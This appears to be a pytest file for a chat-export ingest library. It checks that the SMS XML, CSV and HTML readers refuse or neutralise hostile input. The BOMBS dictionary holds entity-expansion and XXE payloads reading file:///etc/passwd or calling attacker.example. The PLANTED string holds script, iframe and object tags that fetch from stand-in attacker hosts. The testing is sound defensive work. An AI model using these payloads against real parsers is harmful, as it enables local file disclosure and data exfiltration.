"""Readers of XML, tables and pages on bombs, odd bytes, scripts and images from elsewhere: none is run or fetched."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from ingest.formats.chats import sms
from ingest.formats.chats.held_files import HeldFiles
from ingest.formats.chats.model import Said, Stated
from ingest.formats.container import Remark

from .samples import SAMPLES
from .spoiling import (
    ZONE,
    found_in,
    nothing_is_fetched_or_run,  # noqa: F401 - a fixture of all tests here
    readers_of,
)

if TYPE_CHECKING:
    from ingest.formats.chats.model import ExportFormat


BOMBS = {
    "laughs": '<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "outside": '<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "remote": '<!DOCTYPE s SYSTEM "http://attacker.example/x.dtd">',
    "parameter": '<!DOCTYPE s [<!ENTITY % a SYSTEM "http://attacker.example/x"> %a;]>',
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_xml_that_declares_entities_is_refused_and_reaches_nothing(bomb: str):
    content = SAMPLES["sms"]["sms.xml"].replace(b"<smses", BOMBS[bomb].encode() + b"<smses", 1)
    content = content.replace(b'body="hi"', b'body="&a;&b;"')
    export = HeldFiles(files={"sms.xml": content}, zone=ZONE)
    found = list(sms.read(export))
    assert not [one for one in found if isinstance(one, Said)]
    assert [one.lost for one in found if isinstance(one, Remark) and "document type" in one.text] == [None]


TABLES = [
    (name, chosen)
    for name, files in SAMPLES.items()
    for chosen in files
    if chosen.endswith(".csv") and len(files[chosen].splitlines()) > 1
]
each_table = pytest.mark.parametrize(("name", "chosen"), TABLES)


@each_table
def test_no_row_of_a_table_of_odd_bytes_vanishes(name: str, chosen: str):
    content = SAMPLES[name][chosen]
    head, _, rows = content.partition(b"\n")
    row = rows.splitlines()[0]
    for odd in (b"caf\xe9", b"\0", b'a"b', b'""', b"'", b"\xf0\x9f\x98\x80", b"\xed\xa0\x80", b"=1+1"):
        files = {**SAMPLES[name], chosen: head + b"\n" + (row + odd + b"\n") * 3}
        for reader in readers_of(name, files):
            found = found_in(reader, files)
            stated = sum(one.count for one in found if isinstance(one, Stated) and one.path == chosen)
            met = sum(isinstance(one, Said) and one.thread.path == chosen for one in found)
            lost = sum(one.lost or 0 for one in found if isinstance(one, Remark) and one.path == chosen)
            assert stated <= met + lost or name == "youtube"


@each_table
def test_a_quote_that_is_never_closed_costs_no_other_file_and_ends(name: str, chosen: str):
    content = SAMPLES[name][chosen]
    files = {**SAMPLES[name], chosen: content + b'"' + content * 200}
    for reader in readers_of(name, files):
        found_in(reader, files)


@each_table
def test_a_table_in_utf_16_is_read_or_not_known(name: str, chosen: str):
    text = SAMPLES[name][chosen].decode()
    for content in (text.encode("utf-16"), text.encode("utf-16-be"), b"\xef\xbb\xbf" + text.encode()):
        files = {**SAMPLES[name], chosen: content}
        for reader in readers_of(name, files):
            found_in(reader, files)


PAGES = [
    (name, chosen) for name, files in SAMPLES.items() for chosen, content in files.items() if b"<html" in content[:500]
]
PLANTED = (
    '<script>fetch(\'http://attacker.example/x\')</script><img src="http://tracker.example/p.gif" onerror="run()">'
    '<iframe src="http://attacker.example/"></iframe><link rel="stylesheet" href="http://attacker.example/s.css">'
    '<object data="file:///etc/passwd"></object><svg onload="run()"/><meta http-equiv="refresh" content="0;url=x:">'
)


@pytest.mark.parametrize(("name", "chosen"), PAGES)
def test_scripts_of_a_page_are_neither_run_nor_read_and_its_images_not_fetched(name: str, chosen: str):
    text = SAMPLES[name][chosen].decode()
    expected = [
        one.message.text for reader in readers_of(name, SAMPLES[name]) for one in _said(reader, name, text, chosen)
    ]
    for place in [match.end() for match in re.finditer(r"<(?:body|div)[^>]*>", text)]:
        content = text[:place] + PLANTED + text[place:]
        for reader in readers_of(name, {**SAMPLES[name], chosen: content.encode()}):
            said = _said(reader, name, content, chosen)
            assert "fetch(" not in "".join(one.message.text for one in said)
            assert len(said) == len(expected)


def _said(reader: ExportFormat, name: str, text: str, chosen: str) -> list[Said]:
    found = found_in(reader, {**SAMPLES[name], chosen: text.encode()})
    return [one for one in found if isinstance(one, Said)]
